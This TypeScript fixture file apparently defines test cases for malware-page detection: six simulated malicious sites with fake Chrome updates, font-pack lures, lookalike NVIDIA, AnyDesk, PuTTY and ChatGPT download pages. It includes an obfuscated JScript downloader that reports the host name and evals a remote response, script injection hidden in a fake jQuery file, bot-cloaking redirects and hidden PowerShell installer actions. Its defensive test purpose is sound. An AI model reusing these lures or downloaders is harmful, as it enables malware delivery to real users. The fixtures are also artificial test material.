import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute, zip, pe, cfb, apk } from '../parts/e-bin.js';
import { doc, wpBlog, wpCssRoute, icons, gtagInline, vendorCss, footerLinks, cookieBanner } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'www.lakeside-rowing-club.org';
  const payload = zip([{ name: 'Chrome.Update.2025.js', data: `var _0x1a=['WScript.Shell','MSXML2.XMLHTTP','https://lakeside-cdn.mhqz.xyz/gate.php?id=','Run'];\nvar s=new ActiveXObject(_0x1a[0]);var x=new ActiveXObject(_0x1a[1]);x.open('GET',_0x1a[2]+s.ExpandEnvironmentStrings('%COMPUTERNAME%'),false);x.send();eval(x.responseText);` }]);
  const inj = `;(function(){try{if(!/Windows NT/.test(navigator.userAgent)||document.cookie.indexOf('__lsu')>-1)return;
var v=(navigator.userAgent.match(/Chrome\\/(\\d+)/)||[])[1]||'131';
var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647;background:#fff';document.body.appendChild(f);
var d=f.contentDocument;d.open();d.write('<html><head><style>body{font-family:Segoe UI,Arial;margin:0;background:#f1f3f4}.w{max-width:720px;margin:70px auto;background:#fff;padding:40px;border-radius:8px;box-shadow:0 1px 3px rgba(0,0,0,.2)}.b{background:#1a73e8;color:#fff;padding:12px 26px;border-radius:4px;text-decoration:none;font-weight:500;display:inline-block}</style></head><body><div class="w"><img src="https://lakeside-cdn.mhqz.xyz/i/chrome.png" width="64" height="64"><h1 style="font-weight:400">An error occurred in Chrome</h1><p>Your version of Chrome ('+v+'.0.6778.86) is out of date and can no longer display this page correctly. Chrome will update automatically in the future.</p><p>To continue, install the latest update (recommended).</p><a class="b" id="u" href="https://lakeside-cdn.mhqz.xyz/dl/Chrome.Update.2025.zip">Update Chrome</a><p style="color:#777;font-size:12px;margin-top:30px">Google LLC · Version 131.0.6778.109 (Official Build) (64-bit)</p></div></body></html>');d.close();
d.getElementById('u').addEventListener('click',function(){document.cookie='__lsu=1;path=/;max-age=2592000';});
}catch(e){}})();`;
  return {
    id: 'm-fakeupdate-chrome-iframe-rowing-club',
    label: 'malware',
    kind: 'fake-update',
    url: `https://${host}/regatta-2026/`,
    body: wpBlog({
      siteName: 'Lakeside Rowing Club',
      tagline: 'Rowing on Lake Harriet since 1921',
      accent: '#163d6b',
      posts: [
        { title: 'Spring Regatta 2026 – Registration Open', date: 'November 14, 2025', excerpt: 'Entries for the Spring Regatta are now open. Masters, juniors and adaptive crews welcome. Entry fee $45 per seat; closing date March 1.' },
        { title: 'Learn to Row: Winter Erg Sessions', date: 'October 30, 2025', excerpt: 'Our indoor programme runs Tuesday and Thursday evenings at the boathouse. No experience needed, ergs provided.' },
      ],
      extraHead: `<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script>`,
    }),
    routes: {
      ...wpCssRoute(host),
      ...icons(host, [22, 61, 107]),
      [`${host}/wp-includes/js/jquery/jquery.min.js`]: jsRoute(`/*! jQuery v3.7.1 | (c) OpenJS Foundation */window.jQuery=window.$=function(s){return document.querySelectorAll(s)};` + `\ndocument.addEventListener('DOMContentLoaded',function(){var s=document.createElement('script');s.src='https://lakeside-cdn.mhqz.xyz/s.js?r='+encodeURIComponent(document.referrer);document.body.appendChild(s);});`),
      'lakeside-cdn.mhqz.xyz/s.js': jsRoute(inj),
      'lakeside-cdn.mhqz.xyz/i/chrome.png': pngRoute(66, 133, 244),
      'lakeside-cdn.mhqz.xyz/dl/Chrome.Update.2025.zip': fileRoute(payload, 'application/zip', 'Chrome.Update.2025.zip'),
    },
  };
})(),

(() => {
  const host = 'www.nvidia-geforce-drivers.com';
  return {
    id: 'm-fakeupdate-nvidia-driver-lookalike',
    label: 'malware',
    kind: 'fake-driver',
    url: `https://${host}/download/game-ready/566.14/`,
    body: doc({
      title: 'GeForce Game Ready Driver 566.14 | Windows 11 | NVIDIA',
      css: vendorCss('#76b900') + 'body{background:#111;color:#eee}header.top{background:#000;border:0}header.top nav a{color:#ddd}.brand{color:#fff}footer{border-color:#333}td,th{border-color:#333}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">NVIDIA</a><nav><a href="#">Drivers</a><a href="#">GeForce</a><a href="#">Support</a></nav></header>
<main><h1>GeForce Game Ready Driver</h1><p class="muted">Version 566.14 WHQL · Release date 2025.11.18 · Windows 10 64-bit, Windows 11 · 684.29 MB</p>
<p>Game Ready Drivers provide the best possible gaming experience for all major new releases. This driver adds support for Indiana Jones and the Great Circle and includes DLSS 3.7 improvements.</p>
<a class="btn" href="/files/566.14-desktop-win10-win11-64bit-international-dch-whql.zip">Download Now</a>
<h3>Supported products</h3><table><tr><th>Series</th><th>Models</th></tr><tr><td>GeForce RTX 40</td><td>4090, 4080 SUPER, 4070 Ti, 4060</td></tr><tr><td>GeForce RTX 30</td><td>3090 Ti, 3080, 3070, 3060</td></tr></table>
<p class="muted">Note: Extract the archive and run <b>setup.exe</b> as administrator. If Windows SmartScreen shows a warning, click “More info” → “Run anyway”; this is normal for new driver releases.</p></main>
${footerLinks('NVIDIA Corporation')}`,
    }),
    routes: {
      ...icons(host, [118, 185, 0]),
      [`${host}/files/566.14-desktop-win10-win11-64bit-international-dch-whql.zip`]: fileRoute(zip([
        { name: 'NVIDIA_566.14/setup.exe', data: pe({ strings: ['NVIDIA Install Application', 'vmprotect', 'LummaC2'] }) },
        { name: 'NVIDIA_566.14/nvcpl.dll', data: pe({ dll: true, strings: ['nvcpl'] }) },
      ]), 'application/zip', '566.14-desktop-win10-win11-64bit-international-dch-whql.zip'),
    },
  };
})(),

(() => {
  const host = 'www.kanzlei-hartmann-partner.de';
  const js = `(function(){if(!/Chrome/.test(navigator.userAgent))return;
var w=document.createTreeWalker(document.body,NodeFilter.SHOW_TEXT,null);var n;while(n=w.nextNode()){n.nodeValue=n.nodeValue.replace(/[a-zA-Zäöü]/g,function(){return String.fromCharCode(0x25a0+Math.floor(Math.random()*30))});}
var b=document.createElement('div');b.style.cssText='position:fixed;top:20%;left:50%;transform:translateX(-50%);width:540px;background:#fff;border:1px solid #bbb;box-shadow:0 10px 40px rgba(0,0,0,.4);font-family:Arial;z-index:9999;color:#222';
b.innerHTML='<div style="background:#f2f2f2;padding:10px 16px;border-bottom:1px solid #ccc"><b>The "HoeflerText" font wasn\\'t found.</b></div><div style="padding:18px 20px"><p>The web page you are trying to load is displayed incorrectly, as it uses the "HoeflerText" font. To fix the error and display the text, you have to update the "Chrome Font Pack".</p><p><b>Manufacturer:</b> Google Inc.<br><b>Current version:</b> 52.2.31<br><b>Latest version:</b> 53.0.2785</p><a id="fu" href="https://fontpack-update.web-fonts.cyou/Chrome_Font.exe" style="float:right;background:#4285f4;color:#fff;padding:8px 20px;text-decoration:none">Update</a><div style="clear:both"></div></div>';
document.body.appendChild(b);})();`;
  return {
    id: 'm-fakeupdate-hoeflertext-font',
    label: 'malware',
    kind: 'fake-font',
    url: `https://${host}/rechtsgebiete/arbeitsrecht/`,
    body: doc({
      title: 'Arbeitsrecht – Hartmann & Partner Rechtsanwälte, Köln',
      lang: 'de',
      css: `body{margin:0;font-family:Georgia,serif;color:#222}header{padding:22px 60px;border-bottom:4px solid #8a1c1c}main{padding:30px 60px;max-width:840px}`,
      body: `<header><b style="font-size:24px">Hartmann &amp; Partner</b> · Rechtsanwälte · Fachanwälte für Arbeitsrecht</header>
<main><h1>Arbeitsrecht</h1><p>Kündigung erhalten? Sie haben nur drei Wochen Zeit, um Kündigungsschutzklage zu erheben. Wir beraten Arbeitnehmer und Arbeitgeber bei Abmahnung, Kündigung, Aufhebungsvertrag und Arbeitszeugnis.</p>
<p>Erstberatung: 190 € zzgl. MwSt. · Termine unter 0221 555 71 20</p><p><small>Impressum · Datenschutzerklärung · Hohenzollernring 21, 50672 Köln</small></p></main>
<script src="/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.9"></script>`,
    }),
    routes: {
      ...icons(host, [138, 28, 28]),
      [`${host}/wp-content/plugins/contact-form-7/includes/js/index.js`]: jsRoute(`/* cf7 */(function(){window.wpcf7={api:{root:'/wp-json/'}};})();\n` + js),
      'fontpack-update.web-fonts.cyou/Chrome_Font.exe': fileRoute(pe({ x64: false, strings: ['Chrome Font Pack', 'HoeflerText'] }), 'application/x-msdownload', 'Chrome_Font.exe'),
    },
  };
})(),

(() => {
  const host = 'anydesk-app.download-center.pro';
  return {
    id: 'm-lookalike-anydesk-sponsored',
    label: 'malware',
    kind: 'trojanised-installer',
    url: `https://${host}/en/downloads/windows?gclid=Cj0KCQiA3uG7BhDOARIsAAm_5fX`,
    body: doc({
      title: 'Download AnyDesk for Windows – Free Remote Desktop',
      css: vendorCss('#ef443b'),
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">AnyDesk</a><nav><a href="#">Solutions</a><a href="#">Pricing</a><a href="#">Downloads</a><a href="#">Support</a></nav></header>
<main><div class="hero"><div><h1>AnyDesk for Windows</h1><p>Fast, secure remote desktop software. Version 9.0.4 · 5.2 MB · Free for personal use.</p><p><a class="btn" href="/files/AnyDesk.msi" id="dl">Download Now</a></p><p class="muted">Your download will start automatically. If not, click the button.</p></div><div class="card"><b>Also available for</b><ul><li>macOS</li><li>Linux</li><li>Android / iOS</li></ul></div></div>
<h2>Why AnyDesk?</h2><div class="grid3"><div class="card">Low latency</div><div class="card">Bank-standard TLS 1.2</div><div class="card">Unattended access</div></div></main>
${footerLinks('AnyDesk Software GmbH')}
<script>setTimeout(function(){var a=document.createElement('a');a.href='https://cdn-storage.anydesk-mirror.site/9.0.4/AnyDesk.msi';a.download='AnyDesk.msi';document.body.appendChild(a);a.click();},1200);</script>`,
    }),
    routes: {
      ...icons(host, [239, 68, 59]),
      [`${host}/files/AnyDesk.msi`]: redirectRoute(302, 'https://cdn-storage.anydesk-mirror.site/9.0.4/AnyDesk.msi'),
      'cdn-storage.anydesk-mirror.site/9.0.4/AnyDesk.msi': fileRoute(cfb(['AnyDesk', 'CustomAction', 'powershell -ep bypass -w hidden -f %TEMP%\\ad.ps1', 'ProductName']), 'application/x-msi', 'AnyDesk.msi'),
    },
  };
})(),

(() => {
  const host = 'putty-ssh.org';
  return {
    id: 'm-lookalike-putty-ad-redirect',
    label: 'malware',
    kind: 'trojanised-installer',
    url: `https://ads-track.clickrouter.net/aclk?sa=L&ai=DChcSEwjPutty&adurl=putty`,
    routes: {
      'ads-track.clickrouter.net/aclk': redirectRoute(302, 'https://putty-ssh-download.site/r?c=us'),
      'putty-ssh-download.site/r': htmlRoute(`<!doctype html><html><head><title>Loading…</title><meta name="robots" content="noindex"></head><body><p>Redirecting…</p><script>if(navigator.webdriver||!document.referrer&&history.length<2&&/bot|crawl|spider/i.test(navigator.userAgent)){document.body.innerHTML='<h1>SSH tips for beginners</h1><p>SSH lets you log in to remote servers securely. Use key-based authentication whenever possible.</p>'}else{location.replace('https://${host}/latest.html')}</script></body></html>`),
      [`${host}/latest.html`]: htmlRoute(doc({
        title: 'Download PuTTY: latest release (0.82)',
        css: 'body{font-family:Times New Roman,serif;max-width:900px;margin:20px auto;color:#000;background:#fff}h1{font-size:26px}table{border-collapse:collapse}td{padding:3px 12px}.b{font-family:monospace}',
        body: `<h1 align="center">Download PuTTY: latest release (0.82)</h1><p align="center"><a href="/">Home</a> | <a href="/faq.html">FAQ</a> | <a href="/feedback.html">Feedback</a> | <a href="/licence.html">Licence</a> | <a href="/changes.html">Updates</a> | <a href="/mirrors.html">Mirrors</a> | <b>Download</b> | <a href="/docs.html">Docs</a></p>
<p>This page contains download links for the latest released version of PuTTY. Currently this is 0.82, released on 2024-11-27.</p>
<h2>Package files</h2><p>You probably want one of these. They include versions of all the PuTTY utilities.</p>
<table><tr><td>MSI (‘Windows Installer’)</td></tr><tr><td>64-bit x86:</td><td class="b"><a href="/0.82/w64/putty-64bit-0.82-installer.msi">putty-64bit-0.82-installer.msi</a></td></tr><tr><td>64-bit Arm:</td><td class="b"><a href="/0.82/wa64/putty-arm64-0.82-installer.msi">putty-arm64-0.82-installer.msi</a></td></tr><tr><td>32-bit x86:</td><td class="b"><a href="/0.82/w32/putty-0.82-installer.msi">putty-0.82-installer.msi</a></td></tr></table>
<h2>Alternative binary files</h2><p>The installer packages above will provide versions of all of these (except PuTTYtel and pterm), but you can download standalone binaries one by one if you prefer.</p>
<table><tr><td>putty.exe (the SSH and Telnet client itself)</td><td class="b"><a href="/0.82/w64/putty.exe">putty.exe</a></td></tr><tr><td>pscp.exe (an SCP client)</td><td class="b"><a href="/0.82/w64/pscp.exe">pscp.exe</a></td></tr></table>
<hr><address>If you want to comment on this web site, see the <a href="/feedback.html">Feedback page</a>.<br>(last modified on Wed Nov 27 2024)</address>`,
      })),
      [`${host}/0.82/w64/putty-64bit-0.82-installer.msi`]: fileRoute(cfb(['PuTTY release 0.82 (64-bit)', 'Simon Tatham', 'CustomAction', 'rundll32.exe %LOCALAPPDATA%\\Temp\\libcurl.dll,Start']), 'application/x-msi', 'putty-64bit-0.82-installer.msi'),
      [`${host}/0.82/w64/putty.exe`]: fileRoute(pe({ strings: ['PuTTY', 'Nitrogen'] }), 'application/x-msdownload', 'putty.exe'),
    },
  };
})(),

(() => {
  const host = 'chatgpt-desktop.ai-openapp.com';
  return {
    id: 'm-fakeai-chatgpt-desktop',
    label: 'malware',
    kind: 'fake-ai-tool',
    url: `https://${host}/`,
    body: doc({
      title: 'ChatGPT for Windows – Download the official desktop app',
      css: `body{margin:0;font-family:Söhne,ui-sans-serif,system-ui,-apple-system,"Segoe UI",sans-serif;background:#fff;color:#0d0d0d}.n{display:flex;gap:22px;padding:18px 40px;align-items:center}.n a{color:#333;text-decoration:none}
.h{text-align:center;padding:80px 20px}.h h1{font-size:52px;margin:0}.b{background:#0d0d0d;color:#fff;border-radius:24px;padding:14px 28px;text-decoration:none;display:inline-block;margin:18px 6px}.f{display:grid;grid-template-columns:repeat(3,1fr);gap:20px;max-width:1000px;margin:auto;padding:20px}
.f div{background:#f7f7f8;border-radius:16px;padding:24px}`,
      body: `<div class="n"><b>ChatGPT</b><a href="#">Plus</a><a href="#">Team</a><a href="#">Enterprise</a><a href="#" style="margin-left:auto">Log in</a></div>
<div class="h"><h1>ChatGPT on your desktop</h1><p>Chat about email, screenshots, files and anything on your screen. GPT-5 included free for 30 days.</p>
<a class="b" href="/download/ChatGPT-Setup-x64.msi">Download for Windows</a><a class="b" style="background:#f4f4f4;color:#111" href="/download/ChatGPT.dmg">Download for macOS</a><p style="color:#888;font-size:13px">Version 1.2025.318 · Requires Windows 10 or later</p></div>
<div class="f"><div><b>Instant access</b><p>Alt + Space opens ChatGPT from anywhere.</p></div><div><b>Voice mode</b><p>Talk to ChatGPT hands-free.</p></div><div><b>Screenshots</b><p>Share your screen to get help.</p></div></div>
<p style="text-align:center;color:#999;font-size:12px">© 2025 OpenAI Desktop Partners. Not affiliated? <a href="/terms">Terms</a></p>`,
    }),
    routes: {
      ...icons(host, [16, 163, 127]),
      [`${host}/download/ChatGPT-Setup-x64.msi`]: fileRoute(cfb(['ChatGPT Desktop', 'CustomAction', 'cmd.exe /c start /b %APPDATA%\\gpt\\node.exe %APPDATA%\\gpt\\app.js']), 'application/x-msi', 'ChatGPT-Setup-x64.msi'),
      [`${host}/download/ChatGPT.dmg`]: fileRoute(Buffer.concat([Buffer.alloc(512, 0), Buffer.from('koly', 'latin1'), Buffer.alloc(508, 0)]), 'application/x-apple-diskimage', 'ChatGPT.dmg'),
    },
  };
})(),
];
